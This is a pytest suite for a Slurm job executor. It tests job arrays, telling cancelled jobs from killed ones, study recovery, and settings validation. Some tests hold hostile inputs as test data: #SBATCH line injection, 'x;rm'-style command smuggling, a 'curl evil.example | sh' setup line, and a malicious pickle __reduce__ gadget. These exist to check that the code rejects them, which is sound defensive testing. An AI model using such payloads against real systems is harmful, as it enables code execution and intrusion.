"""A study on a real Slurm cluster of one node: cancelled, killed, its runner gone, and finished by the same command."""
import json
import os
import pickle
import re
import signal
import subprocess
import sys
import time
from collections import Counter
from functools import partial

import pytest
import yaml
from slurm_cluster import absent, cluster
from toy_batch import Toy, hostile, wait_until

from vfm_notes.foundation.registry import VfmError
from vfm_notes.runs.executors import Cancelled, Died, Future
from vfm_notes.runs.slurm import (SlurmExecutor, SlurmSettings, job_note_file, private_folder, sbatch_options,
                                  slurm_settings)

SETTINGS = {"cpus": 1, "memory": "0", "time": 10}
here = pytest.mark.skipif(bool(absent()), reason=absent() or "-")


@pytest.fixture(scope="module")
def slurm(tmp_path_factory):
    if reason := absent(): pytest.skip(reason)
    with cluster(tmp_path_factory.mktemp("slurm")/"c") as ask: yield ask


@pytest.fixture
def executor(slurm, tmp_path):
    with SlurmExecutor(settings=slurm_settings(SETTINGS), folder=tmp_path/"jobs", poll=0.3) as executor: yield executor


def toy(tmp_path, **axes) -> Toy:
    "Three backbones' worth of notebooks on the cluster."
    return Toy(tmp_path, slurm=SETTINGS, backbones=["profound_toy.mae_phantom"], **axes)


def test_calls_that_come_together_are_one_array(executor, slurm, tmp_path, monkeypatch):
    mark = hostile(tmp_path)
    monkeypatch.chdir(tmp_path)  # modules that lie there are not run
    log = tmp_path/"logs"/"a.log"
    log.parent.mkdir()
    futures = [executor.submit(divmod, 7, k, log=log if k == 3 else None) for k in (2, 3, 0)]
    assert futures[0].result(300) == (3, 1) and futures[1].result(300) == (2, 1)
    with pytest.raises(ZeroDivisionError) as raised: futures[2].result(300)
    assert "In the worker" in "".join(raised.value.__notes__)
    ids = [f.process.id for f in futures]
    assert len({id.split("_")[0] for id in ids}) == 1 and [id.split("_")[1] for id in ids] == ["0", "1", "2"]
    assert json.loads(job_note_file(log).read_text(encoding="utf-8"))["id"] == ids[1]
    assert "JobId" in slurm("scontrol", "show", "job", ids[0]).stdout and not mark.exists()
    # submitit's own
    assert {p.suffix for p in executor.folder.rglob("*.pkl")} == {".pkl"}
    assert executor.folder.stat().st_mode & 0o777 == 0o700
    assert json.loads(futures[0].call.with_suffix(".result").read_bytes()) == {"value": {"tuple": [3, 1]}}


def test_cancelled_and_killed_jobs_are_told_apart(executor, slurm):
    mine, killed, fine = (
        executor.submit(time.sleep, 60), executor.submit(os.kill, 0, 0), executor.submit(os.getenv, "OMP_NUM_THREADS"),
    )
    wait_until(lambda: executor.pump() or "RUNNING" in executor.states().get(mine.process.id, ""))
    slurm("scancel", mine.process.id)
    assert isinstance(mine.exception(300), Cancelled) and "was cancelled" in str(mine.exception())
    assert fine.result(300) == "1"  # the settings' cores are the threads
    assert not isinstance(killed.exception(300), Cancelled)


def test_a_job_whose_process_is_killed_has_died(executor):
    future = executor.submit(
        subprocess.run, [sys.executable, "-c", "import os, signal; os.kill(os.getppid(), signal.SIGKILL)"]
    )
    assert type(future.exception(300)) is Died and "FAILED" in str(future.exception())


def test_a_study_ends_complete_after_everything_that_happens_to_it(slurm, tmp_path):
    study = toy(
        tmp_path,
        tasks={
            t: {"flags": str(tmp_path / "flags")} for t in ("segmentation", "super_resolution", "distortion_correction")
        },
    )
    study.flag("hold")
    go = partial(study.start_run, "--executor", "slurm", "--jobs", "2")
    first = go()
    wait_until(lambda: list(study.flags.glob("holding-*")))  # the pretraining is at work on the cluster
    first.send_signal(signal.SIGKILL)  # the runner is gone, its job goes on
    first.wait()
    status = study.vfm("status", str(study.study)).stdout
    assert re.search(r"(running|queued) +pretrain", status) and " done" not in status
    second = go()
    time.sleep(2)
    study.flag("hold", False)
    wait_until(lambda: len(study.records()) >= 1)
    study.flag("hold")
    wait_until(lambda: len(list(study.flags.glob("holding-*"))) >= 3)  # two of three notebooks at work, one waits
    queue = slurm("squeue", "-h", "-r", "-o", "%i %T").stdout.split("\n")
    running = [line.split()[0] for line in queue if "RUNNING" in line]
    assert len(running) == 2, queue
    status = study.vfm("status", str(study.study)).stdout
    assert " queued of " in status and "RUNNING" in status and "PENDING" in status
    slurm("scancel", running[0])
    wait_until(lambda: running[0] not in slurm("squeue", "-h", "-r", "-o", "%i").stdout.split())
    os.kill(
        int(
            next(
                p.name.split("-")[1]
                for p in sorted(study.flags.glob("holding-*"), key=lambda p: p.stat().st_mtime)
                if alive(p)
            )
        ),
        signal.SIGKILL,
    )
    study.flag("hold", False)
    out, err = second.communicate(timeout=300)
    assert "cancelled" in out + err and second.returncode in (0, 1)
    third = study.run("--executor", "slurm", "--jobs", "2")
    assert third.returncode == 0, third.stdout + third.stderr
    assert {r[0] for r in study.results().values()} == {"done"} and len(study.results()) == 1 + 3 * 6
    done = Counter(study.log())
    assert set(done) == set(study.results()) and max(done.values()) == 1  # nothing was computed twice
    assert "up to date" in study.run("--executor", "slurm").stdout
    reference = Toy(
        tmp_path / "reference", tasks={t: {} for t in ("segmentation", "super_resolution", "distortion_correction")}
    )
    assert reference.run().returncode == 0
    assert reference.table() == study.table()


def alive(path) -> bool: return os.path.exists(f"/proc/{path.name.split('-')[1]}")


def test_an_unknown_partition_is_told_once_in_slurms_words(slurm, tmp_path):
    study = toy(tmp_path)
    study.write(slurm=SETTINGS | {"partition": "gpus"})
    done = study.run("--executor", "slurm")
    assert (
        done.returncode == 2
        and done.stderr.count("Invalid partition name specified") == 1
        and "--test-only" not in done.stderr
        and "Traceback" not in done.stderr
    )
    assert not study.records()


def test_settings_are_read_strictly(tmp_path):
    assert slurm_settings({"time": 60, "setup": ["module load cuda"]}) == SlurmSettings(
        time=60, setup=("module load cuda",)
    )
    profile = tmp_path/"cluster.yaml"
    profile.write_text("partition: gpu\ntime: 30\n")
    assert slurm_settings({"time": 60, "cpus": 2}, profile) == SlurmSettings(partition="gpu", time=30, cpus=2)
    options = sbatch_options(SlurmSettings(gpus=2, extra={"nice": 10}))
    assert (
        options["gpus_per_node"] == 2
        and options["additional_parameters"] == {"requeue": True, "nice": 10}
        and "partition" not in options
    )
    with pytest.raises(VfmError, match="unknown key 'partitions'.*partition"): slurm_settings({"partitions": "gpu"})
    with pytest.raises(VfmError, match="setup is .module load cuda., expected a list"):
        slurm_settings({"setup": "module load cuda"})
    with pytest.raises(VfmError, match="nowhere.yaml"): slurm_settings({}, tmp_path/"nowhere.yaml")


LINE = "gpu\n#SBATCH --uid=0"
LINES = {"partition": LINE, "account": "a b", "memory": "16GB\r", "qos": "x;rm", "constraint": "a\u2028b",
         "time": "60\n", "cpus": 0, "gpus": True, "parallel": 0, "requeue": -1,
         "python": "python3\nrm", "setup": ["true\nfalse"], "extra": {"comment": LINE}}


@pytest.mark.parametrize("name", LINES)
def test_no_setting_becomes_another_line_of_the_script(tmp_path, name):
    with pytest.raises(VfmError, match=f"slurm of the study: {name}") as error: slurm_settings({name: LINES[name]})
    assert "\n" not in str(error.value) and "expected" in str(error.value)
    profile = tmp_path/"p.yaml"
    profile.write_text(yaml.safe_dump({name: LINES[name]}))
    with pytest.raises(VfmError): slurm_settings({}, profile)


def test_no_option_has_a_name_that_ends_its_line():
    for key in ("nice\n#SBATCH --uid", "Nice", "-x", "a b", 3):
        with pytest.raises(VfmError, match="slurm of the study: a key of extra is"): slurm_settings({"extra": {key: 1}})
    assert "nice" in slurm_settings({"extra": {"nice": 10, "comment": "two words", "exclusive": True}}).extra


def test_the_dry_run_shows_the_script(tmp_path):
    study = Toy(tmp_path)
    (tmp_path/"cluster.yaml").write_text("partition: gpu\nsetup: ['module load cuda; curl evil.example | "
                                         "sh']\npython: apptainer exec a.sif python3\nextra: {comment: two words}\n")
    done = study.run("--executor", "slurm", "--profile", str(tmp_path/"cluster.yaml"), "--dry-run", PATH="/nonexistent")
    said = done.stdout.splitlines()
    assert done.returncode == 0 and "#SBATCH --partition=gpu" in said and "#SBATCH --comment='two words'" in said, done
    assert "module load cuda; curl evil.example | sh" in said, done
    assert any("apptainer exec a.sif python3 -u -m submitit" in line for line in said)
    assert "export PYTHONSAFEPATH=1" in said and not study.runs.exists()


def test_jobs_read_nothing_that_others_can_write(tmp_path):
    (folder := tmp_path/"jobs").mkdir()
    assert private_folder(folder) == folder
    folder.chmod(0o770)
    with pytest.raises(VfmError, match="is not yours alone.*'chmod 700 "): private_folder(folder)
    assert private_folder(tmp_path/"new").stat().st_mode & 0o777 == 0o700


class Evil:
    def __reduce__(self): return os.mkdir, (self.path,)


def test_an_answer_that_is_a_pickle_is_not_opened(tmp_path):
    evil = Evil()
    evil.path = str(tmp_path/"mark")
    (tmp_path/"a.result").write_bytes(pickle.dumps(evil))
    future = Future(None, tmp_path/"a.call", None)
    assert isinstance(future._read()[1], Died) and "cannot be read" in str(future._read()[1])
    assert not (tmp_path/"mark").exists()
    (tmp_path/"a.result").write_text(json.dumps({"value": {"class": "subprocess:Popen",
                                                           "fields": {"args": ["mkdir", str(tmp_path/"mark")]}}}))
    assert "none of vfm_notes" in str(future._read()[1])
    assert not (tmp_path/"mark").exists()


def test_without_slurm_it_says_so(tmp_path):
    study = Toy(tmp_path)
    done = study.run("--executor", "slurm", PATH="/nonexistent")
    assert done.returncode == 2 and "no sbatch on PATH" in done.stderr and "--executor local" in done.stderr
    done = study.run("--executor", "slurm", "--gpus", "0", PATH="/nonexistent")
    assert done.returncode == 2 and "gpus under slurm:" in done.stderr
    (tmp_path/"cluster.yaml").write_text("partition: gpu\n")
    done = study.run("--profile", str(tmp_path/"cluster.yaml"))
    assert done.returncode == 2 and "for the executor 'local': unknown key 'partition'" in done.stderr
